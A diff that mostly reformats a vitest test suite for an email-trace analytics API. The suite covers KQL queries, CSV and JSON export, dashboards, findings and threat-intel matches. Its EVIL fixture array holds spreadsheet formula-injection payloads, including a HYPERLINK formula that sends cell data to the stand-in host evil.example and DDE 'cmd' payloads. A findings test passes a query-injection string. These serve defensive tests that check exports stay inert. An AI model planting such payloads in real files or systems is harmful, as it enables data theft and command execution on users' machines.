@@ -5,7 +5,15 @@ import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { serverFixture, traceRow, type Browser, type ServerFixture } from './server-fixture.js';
 
-const EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1', 'plain, "quoted"\nsubject'];
+const EVIL = [
+  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+  "+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '\t=1+1',
+  '\r=1+1',
+  'plain, "quoted"\nsubject',
+];
 
 /** Cells of an RFC 4180 document. */
 function parseCsv(text: string): string[][] {
@@ -16,13 +24,22 @@ function parseCsv(text: string): string[][] {
   for (let i = 0; i < text.length; i++) {
     const c = text[i]!;
     if (quoted) {
-      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
-      else if (c === '"') quoted = false;
+      if (c === '"' && text[i + 1] === '"') {
+        cell += '"';
+        i++;
+      } else if (c === '"') quoted = false;
       else cell += c;
     } else if (c === '"') quoted = true;
-    else if (c === ',') row.push(cell), (cell = '');
-    else if (c === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
-    else cell += c;
+    else if (c === ',') {
+      row.push(cell);
+      cell = '';
+    } else if (c === '\r' && text[i + 1] === '\n') {
+      row.push(cell);
+      rows.push(row);
+      row = [];
+      cell = '';
+      i++;
+    } else cell += c;
   }
   return rows;
 }
@@ -32,18 +49,37 @@ describe('queries, exports and dashboards over the API', () => {
   let analyst: Browser;
   beforeAll(async () => {
     const rows = Array.from({ length: 12 }, (_, i) => traceRow(i, { Status: i % 4 === 0 ? 'Failed' : 'Delivered' }));
-    rows.push(...EVIL.map((Subject, i) => traceRow(100 + i, { Subject, SenderAddress: i === 0 ? '=cmd@evil.example' : 'x@evil.example', SenderDomain: 'evil.example', Status: 'Quarantined' })));
+    rows.push(
+      ...EVIL.map((Subject, i) =>
+        traceRow(100 + i, {
+          Subject,
+          SenderAddress: i === 0 ? '=cmd@evil.example' : 'x@evil.example',
+          SenderDomain: 'evil.example',
+          Status: 'Quarantined',
+        }),
+      ),
+    );
     f = await serverFixture({ rows, server: { queryRowLimit: 10 } });
     analyst = await f.login('analyst');
   });
   afterAll(() => f.close());
 
   it('runs KQL with a time range and returns typed columns and stats', async () => {
-    const res = await f.as(analyst, 'POST', '/api/query', { query: 'MessageTrace | summarize n = count() by Status | sort by Status asc', from: '2026-11-01T09:00:00Z', to: '2026-11-01T09:05:00Z' });
+    const res = await f.as(analyst, 'POST', '/api/query', {
+      query: 'MessageTrace | summarize n = count() by Status | sort by Status asc',
+      from: '2026-11-01T09:00:00Z',
+      to: '2026-11-01T09:05:00Z',
+    });
     expect(res.statusCode).toBe(200);
     const body = res.json();
-    expect(body.columns).toEqual([{ name: 'Status', type: 'string' }, { name: 'n', type: 'long' }]);
-    expect(body.rows).toEqual([['Delivered', 3], ['Failed', 2]]);
+    expect(body.columns).toEqual([
+      { name: 'Status', type: 'string' },
+      { name: 'n', type: 'long' },
+    ]);
+    expect(body.rows).toEqual([
+      ['Delivered', 3],
+      ['Failed', 2],
+    ]);
     expect(body.stats).toMatchObject({ rows: 2, truncated: false });
     expect(typeof body.stats.elapsedMs).toBe('number');
   });
@@ -71,7 +107,11 @@ describe('queries, exports and dashboards over the API', () => {
   });
 
   it('exports CSV that spreadsheets cannot run as formulas, and JSON', async () => {
-    const res = await f.as(analyst, 'GET', `/api/export?format=csv&query=${encodeURIComponent('MessageTrace | where Status == "Quarantined" | project SenderAddress, Subject, Size | sort by Size asc')}`);
+    const res = await f.as(
+      analyst,
+      'GET',
+      `/api/export?format=csv&query=${encodeURIComponent('MessageTrace | where Status == "Quarantined" | project SenderAddress, Subject, Size | sort by Size asc')}`,
+    );
     expect(res.statusCode).toBe(200);
     expect(res.headers['content-type']).toContain('text/csv');
     expect(res.headers['content-disposition']).toMatch(/^attachment; filename="mailsift-export-.*\.csv"$/);
@@ -85,7 +125,11 @@ describe('queries, exports and dashboards over the API', () => {
     // Numbers stay numbers.
     expect(data[0]![2]).toBe('1100');
 
-    const json = await f.as(analyst, 'GET', `/api/export?format=json&query=${encodeURIComponent('MessageTrace | where Status == "Quarantined" | project Subject | take 2')}`);
+    const json = await f.as(
+      analyst,
+      'GET',
+      `/api/export?format=json&query=${encodeURIComponent('MessageTrace | where Status == "Quarantined" | project Subject | take 2')}`,
+    );
     expect(json.headers['content-type']).toContain('application/json');
     expect(json.json()).toHaveLength(2);
   });
@@ -97,21 +141,34 @@ describe('queries, exports and dashboards over the API', () => {
     for (const { id } of dashboards) {
       const d = (await f.as(viewer, 'GET', `/api/dashboards/${id}`)).json() as { panels: { id: string }[] };
       for (const p of d.panels) {
-        const res = await f.as(viewer, 'POST', `/api/dashboards/${id}/panels/${p.id}/run`, { from: '2026-10-01T00:00:00Z', to: '2026-11-02T00:00:00Z', filters: { sender: ['sender1@contoso.com'] }, tzOffsetMinutes: 540 });
+        const res = await f.as(viewer, 'POST', `/api/dashboards/${id}/panels/${p.id}/run`, {
+          from: '2026-10-01T00:00:00Z',
+          to: '2026-11-02T00:00:00Z',
+          filters: { sender: ['sender1@contoso.com'] },
+          tzOffsetMinutes: 540,
+        });
         expect(res.statusCode, `${id}/${p.id}: ${res.body}`).toBe(200);
       }
     }
-    const pivot = (await f.as(viewer, 'POST', '/api/dashboards/overview/panels/top-senders-status/run', { filters: { sender: ['sender1@contoso.com'] } })).json();
+    const pivot = (
+      await f.as(viewer, 'POST', '/api/dashboards/overview/panels/top-senders-status/run', { filters: { sender: ['sender1@contoso.com'] } })
+    ).json();
     expect(pivot.kql).toContain('where SenderAddress == "sender1@contoso.com"');
     expect(pivot.result.rows).toHaveLength(1);
     expect(pivot.result.rows[0][0]).toBe('sender1@contoso.com');
-    const stat = (await f.as(viewer, 'POST', '/api/dashboards/overview/panels/failed/run', { from: '2026-11-01T09:00:00Z', to: '2026-11-01T09:12:00Z' })).json();
+    const stat = (
+      await f.as(viewer, 'POST', '/api/dashboards/overview/panels/failed/run', { from: '2026-11-01T09:00:00Z', to: '2026-11-01T09:12:00Z' })
+    ).json();
     expect(stat.result.rows).toEqual([[3]]);
     expect(stat.previous).toBe(0);
     expect(stat.sparkline.rows.length).toBeGreaterThan(0);
     // Stats whose value is the sum of their sparkline agree with the query they stand for.
     const range = { from: '2026-10-01T00:00:00Z', to: '2026-11-02T00:00:00Z' };
-    for (const [panel, kql] of [['delivered', 'MessageTrace | where Status == "Delivered" | count'], ['total-size', 'MessageTrace | summarize sum(Size)'], ['messages', 'MessageTrace | summarize dcount(MessageTraceId)']] as const) {
+    for (const [panel, kql] of [
+      ['delivered', 'MessageTrace | where Status == "Delivered" | count'],
+      ['total-size', 'MessageTrace | summarize sum(Size)'],
+      ['messages', 'MessageTrace | summarize dcount(MessageTraceId)'],
+    ] as const) {
       const shown = (await f.as(viewer, 'POST', `/api/dashboards/overview/panels/${panel}/run`, { ...range, tzOffsetMinutes: 540 })).json();
       const direct = (await f.as(analyst, 'POST', '/api/query', { query: kql, ...range })).json();
       expect(shown.result.rows, panel).toEqual(direct.rows);
@@ -119,10 +176,19 @@ describe('queries, exports and dashboards over the API', () => {
     // ... and so does their change, with and without filters (with them: one query over both periods, in
     // bins starting at the range's start).
     const half = { from: '2026-11-01T09:06:00Z', to: '2026-11-01T09:12:00Z' };
-    for (const [panel, kql] of [['delivered', 'MessageTrace | where Status == "Delivered" | count'], ['total-size', 'MessageTrace | summarize sum(Size)'], ['messages', 'MessageTrace | summarize dcount(MessageTraceId)']] as const) {
+    for (const [panel, kql] of [
+      ['delivered', 'MessageTrace | where Status == "Delivered" | count'],
+      ['total-size', 'MessageTrace | summarize sum(Size)'],
+      ['messages', 'MessageTrace | summarize dcount(MessageTraceId)'],
+    ] as const) {
       for (const filters of [{}, { domain: ['contoso.com'] }]) {
-        const filtered = 'domain' in filters ? `MessageTrace | where SenderDomain == "contoso.com" or RecipientDomain == "contoso.com"${kql.slice('MessageTrace'.length)}` : kql;
-        const shown = (await f.as(viewer, 'POST', `/api/dashboards/overview/panels/${panel}/run`, { ...half, filters, tzOffsetMinutes: 540 })).json();
+        const filtered =
+          'domain' in filters
+            ? `MessageTrace | where SenderDomain == "contoso.com" or RecipientDomain == "contoso.com"${kql.slice('MessageTrace'.length)}`
+            : kql;
+        const shown = (
+          await f.as(viewer, 'POST', `/api/dashboards/overview/panels/${panel}/run`, { ...half, filters, tzOffsetMinutes: 540 })
+        ).json();
         const now = (await f.as(analyst, 'POST', '/api/query', { query: filtered, ...half })).json();
         const before = (await f.as(analyst, 'POST', '/api/query', { query: filtered, from: '2026-11-01T09:00:00Z', to: half.from })).json();
         expect(shown.result.rows, panel).toEqual(now.rows);
@@ -130,8 +196,12 @@ describe('queries, exports and dashboards over the API', () => {
         expect(before.rows[0][0], panel).toBeGreaterThan(0);
         expect(shown.bin.stepMs, panel).toBe(3_600_000);
         if ('domain' in filters) expect(shown.bin.originMs, panel).toBe(Date.parse(half.from));
-        for (const [time] of shown.sparkline.rows as [string, number][]) expect(Date.parse(time) + 3_600_000, panel).toBeGreaterThan(Date.parse(half.from));
-        expect((shown.sparkline.rows as [string, number][]).reduce((t, r) => t + r[1], 0), panel).toBe(now.rows[0][0]);
+        for (const [time] of shown.sparkline.rows as [string, number][])
+          expect(Date.parse(time) + 3_600_000, panel).toBeGreaterThan(Date.parse(half.from));
+        expect(
+          (shown.sparkline.rows as [string, number][]).reduce((t, r) => t + r[1], 0),
+          panel,
+        ).toBe(now.rows[0][0]);
       }
     }
     const csv = await f.as(viewer, 'GET', '/api/dashboards/overview/panels/top-senders-status/export?status=Quarantined');
@@ -142,21 +212,38 @@ describe('queries, exports and dashboards over the API', () => {
 
   it('runs a whole dashboard in one request, a line per panel, as the single-panel route answers', async () => {
     const viewer = await f.login('viewer');
-    const body = { from: '2026-10-01T00:00:00Z', to: '2026-11-02T00:00:00Z', filters: { sender: ['sender1@contoso.com'] }, tzOffsetMinutes: 540 };
+    const body = {
+      from: '2026-10-01T00:00:00Z',
+      to: '2026-11-02T00:00:00Z',
+      filters: { sender: ['sender1@contoso.com'] },
+      tzOffsetMinutes: 540,
+    };
     const res = await f.as(viewer, 'POST', '/api/dashboards/overview/run', body);
     expect(res.statusCode).toBe(200);
     expect(res.headers['content-type']).toContain('application/x-ndjson');
-    const lines = res.body.trimEnd().split('\n').map((l) => JSON.parse(l) as { panel: string; data?: { kql: string; result: { rows: unknown[][] } }; error?: unknown });
+    const lines = res.body
+      .trimEnd()
+      .split('\n')
+      .map((l) => JSON.parse(l) as { panel: string; data?: { kql: string; result: { rows: unknown[][] } }; error?: unknown });
     const overview = (await f.as(viewer, 'GET', '/api/dashboards/overview')).json() as { panels: { id: string }[] };
     expect(lines.map((l) => l.panel).sort()).toEqual(overview.panels.map((p) => p.id).sort());
     for (const line of lines) {
       expect(line.error, line.panel).toBeUndefined();
-      const single = (await f.as(viewer, 'POST', `/api/dashboards/overview/panels/${line.panel}/run`, body)).json() as { kql: string; result: { rows: unknown[][] } };
+      const single = (await f.as(viewer, 'POST', `/api/dashboards/overview/panels/${line.panel}/run`, body)).json() as {
+        kql: string;
+        result: { rows: unknown[][] };
+      };
       expect(line.data!.kql, line.panel).toBe(single.kql);
       expect(line.data!.result.rows, line.panel).toEqual(single.result.rows);
     }
     const some = await f.as(viewer, 'POST', '/api/dashboards/overview/run', { panels: ['failed', 'status-share'] });
-    expect(some.body.trimEnd().split('\n').map((l) => (JSON.parse(l) as { panel: string }).panel).sort()).toEqual(['failed', 'status-share']);
+    expect(
+      some.body
+        .trimEnd()
+        .split('\n')
+        .map((l) => (JSON.parse(l) as { panel: string }).panel)
+        .sort(),
+    ).toEqual(['failed', 'status-share']);
     expect((await f.as(viewer, 'POST', '/api/dashboards/overview/run', { panels: ['nope'] })).statusCode).toBe(404);
     expect((await f.as(viewer, 'POST', '/api/dashboards/nope/run', {})).statusCode).toBe(404);
     expect((await f.app.inject({ method: 'POST', url: '/api/dashboards/overview/run', payload: {} })).statusCode).toBe(401);
@@ -172,7 +259,12 @@ describe('queries, exports and dashboards over the API', () => {
     ];
     const g = await serverFixture({ rows });
     try {
-      const shown = (await g.as(await g.login('viewer'), 'POST', '/api/dashboards/overview/panels/messages/run', { from: '2026-11-01T09:00:00Z', to: '2026-11-01T11:00:00Z' })).json();
+      const shown = (
+        await g.as(await g.login('viewer'), 'POST', '/api/dashboards/overview/panels/messages/run', {
+          from: '2026-11-01T09:00:00Z',
+          to: '2026-11-01T11:00:00Z',
+        })
+      ).json();
       expect(shown.result.rows).toEqual([[2]]);
       expect([...shown.sparkline.rows].sort()).toEqual([
         ['2026-11-01T09:00:00.000Z', 1],
@@ -188,13 +280,25 @@ describe('queries, exports and dashboards over the API', () => {
     const panel = (id: string, kql: string) => ({ id, kind: 'table', width: 6, title: id, description: id, kql });
     writeFileSync(
       join(dir, 'broken.json'),
-      JSON.stringify({ id: 'broken', title: 'Broken', description: 'one panel fails', order: 1, panels: [panel('good', 'MessageTrace | count'), panel('bad', 'MessageTrace | where NoSuchColumn == 1')] }),
+      JSON.stringify({
+        id: 'broken',
+        title: 'Broken',
+        description: 'one panel fails',
+        order: 1,
+        panels: [panel('good', 'MessageTrace | count'), panel('bad', 'MessageTrace | where NoSuchColumn == 1')],
+      }),
     );
     const g = await serverFixture({ rows: [traceRow(1), traceRow(2)], dashboardDir: dir });
     try {
       const res = await g.as(await g.login('viewer'), 'POST', '/api/dashboards/broken/run', {});
       expect(res.statusCode).toBe(200);
-      const lines = Object.fromEntries(res.body.trimEnd().split('\n').map((l) => JSON.parse(l) as { panel: string }).map((l) => [l.panel, l]));
+      const lines = Object.fromEntries(
+        res.body
+          .trimEnd()
+          .split('\n')
+          .map((l) => JSON.parse(l) as { panel: string })
+          .map((l) => [l.panel, l]),
+      );
       expect(lines.good).toMatchObject({ data: { result: { rows: [[2]] } } });
       expect(lines.bad).toMatchObject({ status: 400, error: { code: 'KQL', line: 1, column: 22 } });
       expect(JSON.stringify(lines.bad)).toContain('NoSuchColumn');
@@ -218,7 +322,12 @@ describe('queries, exports and dashboards over the API', () => {
       traceRow(502, { Subject: '請求書', Received: Date.UTC(2026, 10, 4, 13) }),
     ]);
     const viewer = await f.login('viewer');
-    const res = (await f.as(viewer, 'POST', '/api/dashboards/overview/panels/subject-keywords/run', { from: '2026-11-05T00:00:00Z', to: '2026-11-06T00:00:00Z' })).json();
+    const res = (
+      await f.as(viewer, 'POST', '/api/dashboards/overview/panels/subject-keywords/run', {
+        from: '2026-11-05T00:00:00Z',
+        to: '2026-11-06T00:00:00Z',
+      })
+    ).json();
     expect(res.terms[0]).toEqual({ term: '請求', count: 2, previous: 1 });
     expect(res.terms.map((t: { term: string }) => t.term)).toContain('重要');
     expect(res.terms.map((t: { term: string }) => t.term)).not.toContain('re');
@@ -230,7 +339,16 @@ describe('queries, exports and dashboards over the API', () => {
     );
     const viewer = await f.login('viewer');
     const list = (await f.as(viewer, 'GET', '/api/findings')).json();
-    expect(list.findings).toEqual([expect.objectContaining({ id: 'f1', rule: 'status-spike', severity: 'high', count: 42, state: 'open', entities: { status: 'FilteredAsSpam' } })]);
+    expect(list.findings).toEqual([
+      expect.objectContaining({
+        id: 'f1',
+        rule: 'status-spike',
+        severity: 'high',
+        count: 42,
+        state: 'open',
+        entities: { status: 'FilteredAsSpam' },
+      }),
+    ]);
     const patched = await f.as(analyst, 'PATCH', '/api/findings/f1', { state: 'acknowledged' });
     expect(patched.statusCode).toBe(200);
     expect(patched.json()).toMatchObject({ state: 'acknowledged', updatedBy: 'analyst' });
@@ -238,12 +356,25 @@ describe('queries, exports and dashboards over the API', () => {
     expect((await f.as(analyst, 'PATCH', '/api/findings/nope', { state: 'closed' })).statusCode).toBe(404);
     expect((await f.as(viewer, 'GET', '/api/findings?state=open')).json().findings).toEqual([]);
     // An alert's link names one finding, whatever the time range.
-    expect((await f.as(viewer, 'GET', '/api/findings?id=f1&from=2000-01-01T00:00:00Z&to=2000-01-02T00:00:00Z')).json().findings).toEqual([expect.objectContaining({ id: 'f1' })]);
+    expect((await f.as(viewer, 'GET', '/api/findings?id=f1&from=2000-01-01T00:00:00Z&to=2000-01-02T00:00:00Z')).json().findings).toEqual([
+      expect.objectContaining({ id: 'f1' }),
+    ]);
     expect((await f.as(viewer, 'GET', `/api/findings?id=${encodeURIComponent('" or 1==1 //')}`)).json().findings).toEqual([]);
   });
 
   it('lists threat-intel matches', async () => {
-    await f.store.replaceIndicators('soc', [{ Indicator: 'evil.example', Type: 'domain', Confidence: 90, Actor: 'TA-1', Labels: ['phishing'], Feed: 'soc', ValidFrom: null, ValidUntil: null }]);
+    await f.store.replaceIndicators('soc', [
+      {
+        Indicator: 'evil.example',
+        Type: 'domain',
+        Confidence: 90,
+        Actor: 'TA-1',
+        Labels: ['phishing'],
+        Feed: 'soc',
+        ValidFrom: null,
+        ValidUntil: null,
+      },
+    ]);
     const viewer = await f.login('viewer');
     const res = (await f.as(viewer, 'GET', '/api/intel/matches')).json();
     expect(res.matches).toEqual([expect.objectContaining({ entity: 'evil.example', type: 'senderDomain', actor: 'TA-1', messages: 7 })]);
@@ -252,13 +383,15 @@ describe('queries, exports and dashboards over the API', () => {
   it('serves the OpenAPI document from the route schemas', async () => {
     const doc = (await f.as(analyst, 'GET', '/api/docs')).json();
     expect(doc.openapi).toMatch(/^3\./);
-    for (const p of ['/api/query', '/api/export', '/api/dashboards/{id}', '/api/findings/{id}', '/api/intel/matches', '/api/auth/login']) expect(Object.keys(doc.paths)).toContain(p);
+    for (const p of ['/api/query', '/api/export', '/api/dashboards/{id}', '/api/findings/{id}', '/api/intel/matches', '/api/auth/login'])
+      expect(Object.keys(doc.paths)).toContain(p);
   });
 });
 
 describe('query time-outs and fairness', () => {
   // A self-join of 700 rows: ~half a second of DuckDB work, long past a 40 ms limit.
-  const HEAVY = 'MessageTrace | join kind=inner (MessageTrace | project Organization, S2 = Subject) on Organization | summarize n = dcount(strcat(Subject, S2))';
+  const HEAVY =
+    'MessageTrace | join kind=inner (MessageTrace | project Organization, S2 = Subject) on Organization | summarize n = dcount(strcat(Subject, S2))';
 
   it('stops waiting at server.queryTimeoutMs with a clear message', async () => {
     const f = await serverFixture({ rows: Array.from({ length: 700 }, (_, i) => traceRow(i)), server: { queryTimeoutMs: 40 } });
@@ -276,11 +409,16 @@ describe('query time-outs and fairness', () => {
   });
 
   it("lets other users' queries through while one user's heavy queries run", async () => {
-    const f = await serverFixture({ rows: Array.from({ length: 700 }, (_, i) => traceRow(i)), server: { queryConcurrency: 2, queryConcurrencyPerUser: 1 } });
+    const f = await serverFixture({
+      rows: Array.from({ length: 700 }, (_, i) => traceRow(i)),
+      server: { queryConcurrency: 2, queryConcurrencyPerUser: 1 },
+    });
     try {
       const [analyst, admin] = [await f.login('analyst'), await f.login('admin')];
       const done: string[] = [];
-      const heavy = [1, 2].map((i) => f.as(analyst, 'POST', '/api/query', { query: HEAVY }).then((r) => done.push(`heavy${i}:${r.statusCode}`)));
+      const heavy = [1, 2].map((i) =>
+        f.as(analyst, 'POST', '/api/query', { query: HEAVY }).then((r) => done.push(`heavy${i}:${r.statusCode}`)),
+      );
       await new Promise((r) => setTimeout(r, 20));
       const light = f.as(admin, 'POST', '/api/query', { query: 'MessageTrace | count' }).then((r) => done.push(`light:${r.statusCode}`));
       await Promise.all([...heavy, light]);
